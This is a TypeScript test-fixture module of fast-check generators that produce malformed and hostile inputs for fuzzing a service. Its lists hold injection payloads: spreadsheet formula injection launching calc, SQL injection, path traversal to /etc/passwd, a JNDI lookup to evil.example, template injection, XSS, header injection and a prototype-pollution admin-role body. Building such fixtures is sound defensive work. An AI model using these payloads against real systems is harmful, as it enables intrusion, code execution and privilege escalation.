import fc, { type Arbitrary } from 'fast-check';

/** Texts that have broken other systems. */
const TEXTS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'NUL\u0000NUL',
  '\ud800',
  '\u202Eabc',
  '👩‍👩‍👧‍👦'.repeat(40),
  'é'.normalize('NFD'),
  '=cmd|/c calc!A1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  'a;=1+1;b',
  'a\r\nx-injected: yes',
  "' OR '1'='1",
  '../../etc/passwd',
  '..',
  '%00',
  '%2e%2e%2f',
  '#',
  '~',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '{staff, select, other {x}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'toString',
  'a'.repeat(2_000),
  'COPY#CEN-1',
  'META',
];

const nested = (depth: number): unknown =>
  Array.from({ length: depth }).reduce<unknown>((inner, _, at) => (at % 2 ? [inner] : { a: inner }), 1);

/** Values of the wrong type, too large, too deep. */
const VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  -0,
  1.5,
  8,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 1,
  [],
  {},
  [[]],
  [null],
  nested(500),
  { toString: 'x', constructor: { prototype: 1 } },
  Array.from({ length: 300 }, (_, index) => index),
  Array.from({ length: 300 }, (_, index) => `id-${index}`),
];

/** A text that may break parsing, storage or output. */
export const maliciousText: Arbitrary<string> = fc.oneof(
  fc.constantFrom(...TEXTS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);

/** A value that fits no field, or barely fits one. */
export const maliciousValue: Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...VALUES),
  maliciousText,
  fc.jsonValue(),
);

/** Bodies that are not JSON, or JSON that no library writes. */
export const maliciousBody: Arbitrary<string | Buffer> = fc.oneof(
  fc.constantFrom<string | Buffer>(
    '',
    ' ',
    'null',
    '"text"',
    '[',
    '{"a":',
    '{"code":8,"code":7}',
    '{"code":1e999}',
    '{"code":8.0000000000000001}',
    '{"code":-0}',
    '{"limit":123456789012345678901234567890}',
    '{"__proto__":{"role":"admin"}}',
    '{"name":"\\ud800"}',
    '{"name":"\\u0000"}',
    '\uFEFF{}',
    '{}{}',
    "{'a':1}",
    '['.repeat(20_000),
    `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
    `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
    Buffer.from([0]),
    Buffer.from([0xff, 0xfe, 0x7b, 0x7d]),
    Buffer.from('{"name":"\xff"}', 'latin1'),
  ),
  maliciousText,
);
